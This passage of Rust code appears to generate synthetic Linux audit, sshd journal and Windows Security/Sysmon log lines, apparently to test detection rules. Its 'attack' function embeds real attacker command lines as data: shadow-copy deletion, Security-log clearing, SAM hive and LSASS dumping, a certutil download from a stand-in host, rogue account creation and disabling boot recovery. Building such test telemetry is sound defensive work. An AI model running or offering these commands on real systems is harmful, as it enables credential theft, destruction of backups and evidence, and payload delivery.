        put!(
            line,
            self.record % 4_000_000,
            r#","message_type":"syscall","result":"success","data":{"syscall":"execve","arch":"x86_64","a0":""#,
            Hex(self.draw.next(), 8)
        );
        put!(
            line,
            r#"","a1":""#,
            Hex(self.draw.next(), 8),
            r#"","exit":"0","tty":"(none)"}},"process":{"pid":"#,
            1000 + self.draw.below(60_000),
            r#","parent":{"pid":"#,
            1 + self.draw.below(60_000)
        );
        put!(
            line,
            r#"},"name":""#,
            tool,
            r#"","executable":"/usr/bin/"#,
            tool,
            r#"","working_directory":"/srv/app","title":""#,
            tool,
            " /srv/app/",
            Hex(self.draw.next(), 6)
        );
        put!(line, r#""},"user":{"id":"1001","name":"app"},"tags":["exec"]}"#, "\n");
    }

    fn journal(&mut self, line: &mut Vec<u8>, now: &Stamp) {
        let host = self.world.linux_host(&mut self.draw);
        let pid = 1000 + self.draw.below(60_000);
        put!(
            line,
            r#"{"__REALTIME_TIMESTAMP":""#,
            now.unix_us as u64,
            r#"","__CURSOR":"s="#,
            Hex(self.draw.next(), 16),
            r#"","_HOSTNAME":""#,
            host.name
        );
        put!(
            line,
            r#"","SYSLOG_IDENTIFIER":"sshd","_PID":""#,
            pid,
            r#"","_UID":"0","_COMM":"sshd","_EXE":"/usr/sbin/sshd","PRIORITY":"6","_SYSTEMD_UNIT":"ssh.service","MESSAGE":"Accepted publickey for app from "#
        );
        put!(
            line,
            self.world.hosts[self.draw.index(1900)].address,
            " port ",
            40_000 + self.draw.below(20_000),
            " ssh2: ED25519 SHA256:",
            Hex(self.draw.next(), 16),
            "\"}\n"
        );
    }

    /// An event of the kind that public detection rules look for.
    fn attack(&mut self, line: &mut Vec<u8>, now: &Stamp) {
        const COMMANDS: [(&str, &str); 8] = [
            (r"C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
            (r"C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe cl Security"),
            (r"C:\\Windows\\System32\\reg.exe", r"reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.hiv"),
            (
                r"C:\\Windows\\System32\\rundll32.exe",
                r"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full",
            ),
            (
                r"C:\\Windows\\System32\\certutil.exe",
                r"certutil.exe -urlcache -split -f http://files.example.net/a.txt C:\\Users\\Public\\a.exe",
            ),
            (r"C:\\Windows\\System32\\whoami.exe", "whoami.exe /all"),
            (r"C:\\Windows\\System32\\net.exe", "net.exe user helpdesk2 Passw0rd! /add"),
            (r"C:\\Windows\\System32\\bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled no"),
        ];
        let (image, command) = COMMANDS[self.draw.index(COMMANDS.len())];
        let process = self.new_process();
        let host = self.host(&process);
        if self.draw.one_in(3) {
            self.security(line, now, host, 4688);
            put!(
                line,
                r#"","SubjectUserSid":"S-1-5-18","SubjectUserName":"SYSTEM","SubjectDomainName":"CORP","NewProcessId":"0x"#,
                Hex(u64::from(process.pid), 4)
            );
            put!(
                line,
                r#"","NewProcessName":""#,
                image,
                r#"","CommandLine":""#,
                command,
                r#"","ParentProcessName":"C:\\Windows\\System32\\cmd.exe"}"#,
                "\n"
            );
            return;
        }
        self.head(line, now, host, SYSMON);
        put!(
            line,
            r#"1,"RecordNumber":"#,
            self.record,
            r#","RuleName":"-","UtcTime":""#,
            now.date[..],
            " ",
            now.millis()
        );
        put!(
            line,
            r#"","ProcessGuid":""#,
            ProcessGuid(host, process.serial),
            r#"","ProcessId":""#,
            process.pid,
            r#"","Image":""#,
            image
        );
        put!(
            line,
            r#"","OriginalFileName":""#,
            image.rsplit('\\').next().unwrap_or_default(),
            r#"","CommandLine":""#,
            command
        );
        put!(line, r#"","CurrentDirectory":"C:\\Users\\Public\\","User":""#);
        self.account(line, process.user);
        put!(
            line,
            r#"","IntegrityLevel":"High","ParentProcessGuid":""#,
            ProcessGuid(host, process.parent_serial),
            r#"","ParentProcessId":""#,
            process.parent_pid
        );
        put!(
            line,
            r#"","ParentImage":"C:\\Windows\\System32\\cmd.exe","ParentCommandLine":"cmd.exe /c start"}"#,
            "\n"
        );
    }
}

const FOLDERS: [&str; 12] = [
    "Finance", "Projects", "Shared", "Reports", "Archive", "Planning", "Sales", "Support", "Quality",
    "Training", "Travel", "Legal",
];
const DOCUMENTS: [&str; 8] =
    ["budget", "minutes", "offer", "contract", "roster", "summary", "inventory", "forecast"];
